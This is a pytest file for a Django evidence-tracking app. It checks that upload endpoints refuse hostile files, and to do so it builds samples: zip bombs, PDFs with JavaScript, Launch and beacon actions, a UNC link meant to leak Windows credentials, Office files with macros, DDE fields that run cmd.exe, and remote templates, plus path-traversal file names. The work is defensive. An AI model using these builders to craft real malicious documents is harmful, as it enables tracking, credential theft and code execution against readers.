"""
Hostile files through every upload endpoint: evidence attachments (page and API), interaction attachments (page
and API) and the evidence import. Each is refused with a reason the uploader can act on, and leaves no file in
storage and no row. A name with folders in it is only ever shown, cleaned, never used as a path.

A PDF with a script or a launch action, and any document with other active content (an action that opens a web
address or posts a form, an XFA form, embedded files, macros, OLE objects, a template or picture fetched from the
internet), is refused, not stored with a warning: the people who open the group's evidence are targets themselves
(evidence/attachments.py, evidence/inspector.py).

victor volunteers in Alpha Watch and uploads; carol campaigns there and logs interactions; alice coordinates and
imports.
"""

import functools
import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from campaigns.models import Interaction, InteractionAttachment
from evidence.imports import parsing
from evidence.models import Attachment, EvidenceImport
from tests.conftest import read_stored, stored_names
from tests.factories import EvidenceRecordFactory, InteractionFactory, TargetFactory

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
LIMIT = 300_000  # "huge" is over it, without writing 25 MB; the zip bomb is under it
CSV = "title,summary,kind\n课堂摄像头,Cameras that read pupils' moods,deployment\n".encode()


@functools.cache
def zip_bomb():
    """250 MB of zeros in a few hundred kilobytes, dressed as both a Word document and an Excel workbook."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("word/document.xml", b"\x00" * (250 * 1024 * 1024))
    return buffer.getvalue()


def pdf_with(action, *, hidden=False):
    """A real PDF whose opening runs `action`; hidden: in a compressed object stream, where grep finds nothing."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if action == "javascript":
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    elif action == "launch":
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    elif action == "link":  # a script that runs when a link on the page is clicked
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
            A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))))]))
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
    pdf.save(buffer, object_stream_mode=mode)
    return buffer.getvalue()


# name -> (file name, content or a function making it, reason an attachment endpoint gives, reason the import gives)
HOSTILE_FILES = {
    "zip bomb": ("minutes.docx", zip_bomb, "unpacks to far more", "unpacks to far more"),
    "executable renamed .pdf": ("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 4,
                                "not accepted", "neither a CSV file nor an Excel"),
    "svg with script": ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                        "not accepted", "must be a header"),
    "html as .txt": ("page.txt", b"<html><script>alert(1)</script></html>", "not accepted", "must be a header"),
    "empty": ("empty.pdf", b"", "empty", "empty"),
    "huge": ("big.pdf", PDF + b"0" * LIMIT, "the limit is", "the limit is"),
    # The import takes no PDF at all, and says so.
    "pdf with javascript": ("notice.pdf", lambda: pdf_with("javascript"), "contains a script", "This is a PDF."),
    "pdf with hidden javascript": ("notice.pdf", lambda: pdf_with("javascript", hidden=True), "contains a script",
                                   "This is a PDF."),
    "pdf with a script on a link": ("notice.pdf", lambda: pdf_with("link", hidden=True), "contains a script",
                                    "This is a PDF."),
    "pdf that launches a program": ("notice.pdf", lambda: pdf_with("launch"), "starts another program",
                                    "This is a PDF."),
    "pdf with an escaped name": ("notice.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /J#61vaScript "
                                                           b"/J#53 (app.alert(1)) >>"),
                                 "contains a script", "This is a PDF."),
}


def content_of(upload):
    upload.seek(0)
    return upload.read()


def hostile(name):
    file_name, content, *_ = HOSTILE_FILES[name]
    return SimpleUploadedFile(file_name, content() if callable(content) else content)


@pytest.fixture
def private_storage(own_private_storage, settings):
    """Imports wait in storage of this test's own; attachments go where their field's storage puts them."""
    settings.ATTACHMENT_MAX_BYTES = LIMIT
    return own_private_storage


class Files:
    """
    The files in private storage that were not there when the test began, as (storage, name), read through the
    storage API (the disk or S3). The attachments' storage is shared by the tests of this process, so `holding`
    narrows them to those with given content.
    """

    def __init__(self, *storages):
        self.storages = storages
        self.before = self._all()

    def _all(self):
        return {(storage, name) for storage in self.storages for name in stored_names(storage)}

    def new(self, holding=None):
        return sorted(
            ((storage, name) for storage, name in self._all() - self.before
             if holding is None or read_stored(storage, name) == holding),
            key=lambda found: found[1],
        )


@pytest.fixture
def new_files(private_storage):
    return Files(private_storage, Attachment._meta.get_field("file").storage)


def rows():
    return [Attachment.objects.count(), InteractionAttachment.objects.count(), Interaction.objects.count(),
            EvidenceImport.objects.count()]


#
# The endpoints: each uploads one file and returns the status and the text that shows the reason
#


def evidence_api(actors, objects, upload):
    response = actors["api"](actors["volunteer"]).post(
        reverse("api:evidence-attachments", args=[objects["record"].pk]), {"file": upload}, format="multipart")
    return response.status_code, response.content.decode()


def evidence_page(actors, objects, upload):
    response = actors["client"](actors["volunteer"]).post(
        reverse("attachment-upload", args=[objects["record"].pk]), {"file": upload})
    # The page goes back to the record and says why there.
    return response.status_code, actors["client"](actors["volunteer"]).get(response["Location"]).content.decode()


def interaction_api(actors, objects, upload):
    response = actors["api"](actors["campaigner"]).post(
        reverse("api:interaction-attachments", args=[objects["interaction"].pk]), {"file": upload},
        format="multipart")
    return response.status_code, response.content.decode()


def interaction_page(actors, objects, upload):
    response = actors["client"](actors["campaigner"]).post(
        reverse("interaction-create", args=[objects["target"].pk]),
        {"kind": "letter", "direction": "received", "occurred_on": timezone.localdate().isoformat(),
         "summary": "Their reply", "files": [upload]})
    return response.status_code, response.content.decode()


def evidence_quick_page(actors, objects, upload):
    # The phone's form: a refused photo leaves no record, source or file either (tests/evidence/test_quick.py).
    response = actors["client"](actors["volunteer"]).post(
        reverse("evidence-quick"), {"title": "Cameras at the gate", "summary": "Seen this morning.", "photo": upload})
    return response.status_code, response.content.decode()


ATTACHMENT_ENDPOINTS = {
    "evidence attachments, API": (evidence_api, 400),
    "evidence attachments, page": (evidence_page, 302),
    "evidence quick form, page": (evidence_quick_page, 400),
    "interaction attachments, API": (interaction_api, 400),
    "interaction attachments, page": (interaction_page, 400),
}


@pytest.fixture
def actors(client_for, api_for, volunteer, campaigner, coordinator):
    return {"client": client_for, "api": api_for, "volunteer": volunteer, "campaigner": campaigner,
            "coordinator": coordinator}


@pytest.fixture
def objects(group):
    target = TargetFactory(campaign__group=group)
    return {"record": EvidenceRecordFactory(group=group), "target": target,
            "interaction": InteractionFactory(target=target)}


def unescaped(html):
    return html.replace("&#x27;", "'").replace("&quot;", '"').replace("&amp;", "&")


@pytest.mark.parametrize("endpoint", sorted(ATTACHMENT_ENDPOINTS))
@pytest.mark.parametrize("file", sorted(HOSTILE_FILES))
def test_hostile_attachments_are_refused_and_leave_nothing(new_files, actors, objects, endpoint, file):
    send, refused_status = ATTACHMENT_ENDPOINTS[endpoint]
    before, upload = rows(), hostile(file)
    status, text = send(actors, objects, upload)
    assert status == refused_status, (endpoint, file, status)
    assert HOSTILE_FILES[file][2] in unescaped(text), (endpoint, file)
    assert new_files.new(holding=content_of(upload)) == []
    assert rows() == before


@pytest.mark.parametrize("endpoint", sorted(ATTACHMENT_ENDPOINTS))
def test_a_name_with_folders_is_shown_cleaned_and_never_used_as_a_path(new_files, actors, objects, endpoint):
    send, _ = ATTACHMENT_ENDPOINTS[endpoint]
    content = PDF.replace(b"Catalog", endpoint.encode())  # content of this test's own
    status, _ = send(actors, objects, SimpleUploadedFile("../../../etc/cron.d/..\\..\\notice.pdf", content))
    assert status in (201, 302)
    [attachment] = [*Attachment.objects.all(), *InteractionAttachment.objects.all()]
    assert attachment.original_name == "notice.pdf"
    [(storage, stored)] = new_files.new(holding=content)
    assert storage is attachment.file.storage and attachment.file.name == stored
    assert "notice" not in stored and "etc" not in stored.split("/")


def test_a_plain_pdf_still_passes(new_files, actors, objects):
    status, _ = evidence_api(actors, objects, SimpleUploadedFile("plain.pdf", pdf_with(None, hidden=True)))
    assert status == 201


#
# The import: the same files, through its own checks (a CSV or an Excel workbook)
#


def import_upload(client, group, upload):
    return client.post(reverse("evidence-import"), {"group": group.pk, "file": upload})


@pytest.mark.parametrize("file", sorted(HOSTILE_FILES))
def test_hostile_imports_are_refused_and_leave_nothing(new_files, monkeypatch, client_for, coordinator, group, file):
    monkeypatch.setattr(parsing, "MAX_BYTES", LIMIT)
    before, upload = rows(), hostile(file)
    response = import_upload(client_for(coordinator), group, upload)
    assert response.status_code == 400, file
    assert HOSTILE_FILES[file][3] in unescaped(response.content.decode()), file
    assert new_files.new(holding=content_of(upload)) == []
    assert rows() == before


def test_an_import_named_with_folders_is_stored_under_a_random_name(private_storage, new_files, client_for,
                                                                   coordinator, group):
    response = import_upload(client_for(coordinator), group, SimpleUploadedFile("../../../etc/evidence.csv", CSV))
    assert response.status_code == 200
    assert "evidence.csv" in response.content.decode() and "../" not in response.content.decode()
    [(storage, stored)] = new_files.new(holding=CSV)
    assert storage is private_storage and "evidence" not in stored


#
# Active content: files that act when they are opened (a beacon telling the sender who read them, a form that
# posts itself, a script, a macro, an embedded program). Each is refused through every attachment endpoint with
# a reason of its own, and nothing is stored. The checks run in a child process with time and memory limits.
#

BEACON = "https://tracker.example/opened"


def saved(pdf):
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


def annotated_pdf(**annotation):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Rect=[0, 0, 100, 100], **annotation))]))
    return pdf


def pdf_beacon():
    """Opening it opens an address and posts the form to another: the sender learns who opened it, and when."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=pikepdf.String(BEACON),
        Next=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(
            FS=pikepdf.Name.URL, F=pikepdf.String(BEACON + "/form"))))
    return saved(pdf)


def pdf_page_beacon():
    """The page, not the document, opens the address when it is shown (an additional action, /AA)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(BEACON)))
    return saved(pdf)


def pdf_submit_button():
    """A button that posts what is typed into the form to an address."""
    pdf = annotated_pdf(Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, A=pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String(BEACON))))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([pdf.pages[0].Annots[0]]))
    return saved(pdf)


def pdf_remote_file():
    """A link to a file on the sender's server: opening it hands over the reader's Windows credentials."""
    return saved(annotated_pdf(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(
        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\tracker.example\\share\\next.pdf"), D=pikepdf.Array([0]))))


def pdf_xfa():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">'
        b'xfa.host.gotoURL("' + BEACON.encode() + b'")</script></template></xdp:xdp>'))
    return saved(pdf)


EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 4


def pdf_embedded_exe():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, mime_type="application/x-msdownload")
    return saved(pdf)


def pdf_file_annotation():
    """A file pinned to the page as a note (a file attachment annotation), not listed in the document's files."""
    pdf = annotated_pdf(Subtype=pikepdf.Name.FileAttachment)
    spec = pikepdf.AttachedFileSpec(pdf, b"<html><script>alert(1)</script></html>", mime_type="text/html")
    pdf.pages[0].Annots[0].FS = spec.obj
    return saved(pdf)


def office(base, *, add=(), content_types=(), rels=()):
    """A copy of the office document `base` with parts added, content types declared and relationships added."""
    source = zipfile.ZipFile(io.BytesIO(base))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", "".join(content_types).encode() + b"</Types>")
            archive.writestr(entry, data)
        for name, data in add:
            archive.writestr(name, data)
        for name, relationships in rels:
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
                             'http://schemas.openxmlformats.org/package/2006/relationships">'
                             f'{relationships}</Relationships>')
    return buffer.getvalue()


def docx(text="Minutes of the meeting with the ministry", *, hyperlink=False, picture=False):
    import docx as python_docx

    document = python_docx.Document()
    paragraph = document.add_paragraph(text)
    if hyperlink:  # a link clicked by the reader is not fetched on opening: it stays allowed
        document.part.relate_to("https://example.org/report", "http://schemas.openxmlformats.org/officeDocument/"
                                "2006/relationships/hyperlink", is_external=True)
        paragraph.add_run(" https://example.org/report")
    if picture:
        document.add_picture(io.BytesIO(png()))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def png():
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, "PNG")
    return buffer.getvalue()


def xlsx():
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["课堂摄像头", 3])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


VBA = ("vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name AutoOpen Shell")
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with_macros():
    return office(docx(), add=[("word/" + VBA[0], VBA[1])], content_types=[
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'])


def docx_with_ole_object():
    return office(docx(), add=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + EXECUTABLE)])


def docx_with_remote_template():
    """Word fetches the "template" from the sender's server on opening: a beacon, and a classic way in."""
    return office(docx(), rels=[("word/_rels/settings.xml.rels",
                                 f'<Relationship Id="rId1" Type="{RELATIONSHIP}/attachedTemplate" '
                                 f'Target="{BEACON}/template.dotm" TargetMode="External"/>')])


def docx_with_activex():
    return office(docx(), add=[("word/activeX/activeX1.xml", b"<ax:ocx/>")])


def xlsm():
    """An Excel workbook with macros, its main part declared macro-enabled."""
    return office(xlsx(), add=[("xl/" + VBA[0], VBA[1])], content_types=[
        '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'])


def pptx_with_remote_picture():
    """A slide whose picture is fetched from the sender's server each time it is shown."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("ppt/presentation.xml", "<p:presentation/>")
        archive.writestr("ppt/slides/slide1.xml", "<p:sld/>")
    return office(buffer.getvalue(), rels=[("ppt/slides/_rels/slide1.xml.rels", f'<Relationship Id="rId2" Type="'
                                            f'{RELATIONSHIP}/image" Target="{BEACON}/pixel.png" '
                                            'TargetMode="External"/>')])


def odt(*, add=(), content=""):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
                         'xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
                         'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
                         f'{content}</office:text></office:body></office:document-content>')
        archive.writestr("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                         'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
                         'manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>')
        for name, data in add:
            archive.writestr(name, data)
    return buffer.getvalue()


def odt_with_macros():
    return odt(add=[("Basic/Standard/Module1.xml", "<script:module>Sub Main\nShell(\"cmd\")\nEnd Sub</script:module>"),
                    ("Basic/script-lc.xml", "<library:libraries/>")])


def docx_with_dde_field():
    """A field that runs a program, its code split over runs the way Word writes it."""
    base = docx("FIELD")
    archive = zipfile.ZipFile(io.BytesIO(base))
    document = archive.read("word/document.xml").decode()
    field = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD'
             '</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'
             '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
    document = document.replace("<w:t>FIELD</w:t></w:r>", "<w:t>FIELD</w:t></w:r>" + field, 1)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as copy:
        for entry in archive.infolist():
            copy.writestr(entry, document if entry.filename == "word/document.xml" else archive.read(entry))
    return buffer.getvalue()


def odt_with_remote_picture():
    return odt(content='<draw:frame><draw:image xlink:href="' + BEACON + '/pixel.png" xlink:type="simple"/>'
                       '</draw:frame>')


# name -> (file name, a function making it, the reason every attachment endpoint gives)
ACTIVE_FILES = {
    "docx with a dde field": ("minutes.docx", docx_with_dde_field, "contains macros"),
    "odt with a picture on another server": ("minutes.odt", odt_with_remote_picture,
                                             "fetches content from the internet"),
    "pdf that opens an address and posts its form when opened": ("notice.pdf", pdf_beacon,
                                                                 "runs actions when it is opened"),
    "pdf whose page opens an address when shown": ("notice.pdf", pdf_page_beacon, "runs actions when it is opened"),
    "pdf with a button that posts the form": ("form.pdf", pdf_submit_button, "can send what is typed"),
    "pdf with a link to a file on another server": ("notice.pdf", pdf_remote_file, "can send what is typed"),
    "pdf with an xfa form": ("form.pdf", pdf_xfa, "XFA form"),
    "pdf with an embedded executable": ("notice.pdf", pdf_embedded_exe, "carries other files"),
    "pdf with a file pinned to a page": ("notice.pdf", pdf_file_annotation, "carries other files"),
    "docx with macros": ("minutes.docx", docx_with_macros, "contains macros"),
    "xlsm": ("budget.xlsx", xlsm, "contains macros"),
    "odt with macros": ("minutes.odt", odt_with_macros, "contains macros"),
    "docx with an embedded ole object": ("minutes.docx", docx_with_ole_object, "embedded objects"),
    "docx with an activex control": ("minutes.docx", docx_with_activex, "embedded objects"),
    "docx with a template on another server": ("minutes.docx", docx_with_remote_template,
                                               "fetches content from the internet"),
    "pptx with a picture on another server": ("slides.pptx", pptx_with_remote_picture,
                                              "fetches content from the internet"),
}


@pytest.fixture
def roomy_limit(private_storage, settings):
    settings.ATTACHMENT_MAX_BYTES = 5 * 1024 * 1024  # python-docx's template alone is 36 kB


@pytest.mark.parametrize("endpoint", sorted(ATTACHMENT_ENDPOINTS))
@pytest.mark.parametrize("file", sorted(ACTIVE_FILES))
def test_active_content_is_refused_with_its_reason_and_leaves_nothing(roomy_limit, new_files, actors, objects,
                                                                     endpoint, file):
    send, refused_status = ATTACHMENT_ENDPOINTS[endpoint]
    file_name, make, reason = ACTIVE_FILES[file]
    content = make()
    before = rows()
    status, text = send(actors, objects, SimpleUploadedFile(file_name, content))
    assert status == refused_status, (endpoint, file, status)
    assert reason in unescaped(text), (endpoint, file)
    assert new_files.new(holding=content) == []
    assert rows() == before


def pdf_with_links():
    """What a word processor writes: opens at the first page, with a link the reader may click."""
    pdf = annotated_pdf(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/report")))
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    return saved(pdf)


def docx_with_chart_data():
    """A chart in Word keeps its numbers in a workbook inside the document; a plain workbook is not an object."""
    return office(docx(), add=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx())])


ORDINARY_FILES = {
    "pdf with links": ("report.pdf", pdf_with_links),
    "docx with a link and a picture": ("minutes.docx", lambda: docx(hyperlink=True, picture=True)),
    "docx with a chart": ("chart.docx", docx_with_chart_data),
    "xlsx": ("budget.xlsx", xlsx),
    "odt": ("minutes.odt", odt),
    "png": ("photo.png", png),
}


@pytest.mark.parametrize("endpoint", sorted(ATTACHMENT_ENDPOINTS))
@pytest.mark.parametrize("file", sorted(ORDINARY_FILES))
def test_ordinary_documents_still_upload(roomy_limit, new_files, actors, objects, endpoint, file):
    send, _ = ATTACHMENT_ENDPOINTS[endpoint]
    file_name, make = ORDINARY_FILES[file]
    content = make()
    status, text = send(actors, objects, SimpleUploadedFile(file_name, content))
    assert status in (201, 302), (endpoint, file, status, text[:500])
    assert len(new_files.new(holding=content)) == 1


def pdf_needing_gigabytes():
    """
    20 kB that qpdf unpacks into an array of ten million numbers (1.4 GB): more than the checker may use. The
    array sits in a compressed object stream, and qpdf, out of memory, would read it as null and go on; whatever the
    array held would then go unchecked.
    """
    header, body = b"4 0 ", b"[" + b"0 " * 10_000_000 + b"]"
    packed = zlib.compress(header + body, 9)
    out, offsets = bytearray(b"%PDF-1.5\n"), {}
    for number, content in ((1, b"<< /Type /Catalog /Pages 2 0 R /Big 4 0 R >>"),
                            (2, b"<< /Type /Pages /Kids [] /Count 0 >>"),
                            (3, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                             % (len(header), len(packed)) + packed + b"\nendstream")):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    xref = len(out)
    rows = b"".join([struct.pack(">BIH", 0, 0, 65535), *(struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)),
                     struct.pack(">BIH", 2, 3, 0), struct.pack(">BIH", 1, xref, 0)])
    out += (b"5 0 obj\n<< /Type /XRef /W [1 4 2] /Size 6 /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\n"
            b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(rows), rows, xref))
    return bytes(out)


def docx_with_a_packed_part():
    """A part that unpacks to a thousand times its packed size, well under the archive's overall limit."""
    return office(docx(), add=[("word/media/image1.png", b"\x00" * (4 * 1024 * 1024))])


LIMIT_FILES = {
    "pdf needing gigabytes to read": ("notice.pdf", pdf_needing_gigabytes,
                                      "could not be checked within the time and memory allowed"),
    "docx with a part packed a thousand times": ("minutes.docx", docx_with_a_packed_part, "unpacks to far more"),
}


@pytest.mark.parametrize("endpoint", sorted(ATTACHMENT_ENDPOINTS))
@pytest.mark.parametrize("file", sorted(LIMIT_FILES))
def test_a_file_beyond_the_checkers_limits_is_refused_for_them(roomy_limit, new_files, actors, objects, endpoint,
                                                              file):
    send, refused_status = ATTACHMENT_ENDPOINTS[endpoint]
    file_name, make, reason = LIMIT_FILES[file]
    content = make()
    before = rows()
    status, text = send(actors, objects, SimpleUploadedFile(file_name, content))
    assert status == refused_status, (endpoint, file, status)
    assert reason in unescaped(text), (endpoint, file)
    assert new_files.new(holding=content) == []
    assert rows() == before
